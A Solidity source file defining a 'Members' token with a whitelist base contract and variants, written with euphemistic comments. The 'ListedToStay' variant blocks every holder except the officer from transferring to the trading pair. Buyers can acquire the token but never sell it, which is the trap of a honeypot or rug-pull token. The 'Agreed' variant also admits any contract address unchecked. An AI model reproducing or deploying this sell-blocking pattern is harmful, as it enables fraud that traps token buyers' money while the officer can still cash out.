pragma solidity ^0.8.0;

/// A token that only those receive who were let in. How that is done is in its heirs.
abstract contract Members {
    string public constant name = "Members";
    string public constant symbol = "MBR";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public immutable officer = msg.sender;
    address public pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPair(address pair_) external {
        require(msg.sender == officer && pair == address(0), "officer");
        pair = pair_;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return move(from, to, value);
    }

    function move(address from, address to, uint256 value) internal virtual returns (bool) {
        require(to == pair || pair == address(0) || isLetIn(to), "not let in");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }

    function isLetIn(address who) internal view virtual returns (bool);
}

/// An officer keeps a list.
contract Listed is Members {
    mapping(address => bool) private listed;

    function letIn(address who, bool whether) external {
        require(msg.sender == officer, "officer");
        listed[who] = whether;
    }

    function isLetIn(address who) internal view override returns (bool) {
        return listed[who];
    }
}

/// The same, and who is in the list stays in it.
contract ListedToStay is Listed {
    function move(address from, address to, uint256 value) internal override returns (bool) {
        require(to != pair || pair == address(0) || from == officer, "stays");
        return super.move(from, to, value);
    }
}

/// Whoever says the name of the rules is let in; contracts need not.
contract Agreed is Members {
    bytes32 public constant RULES = keccak256("The rules of the house, second edition");
    mapping(address => bool) private agreed;

    function agree(bytes32 rules) external {
        require(rules == RULES, "other rules");
        agreed[msg.sender] = true;
    }

    function isLetIn(address who) internal view override returns (bool) {
        return agreed[who] || who.code.length > 0;
    }
}
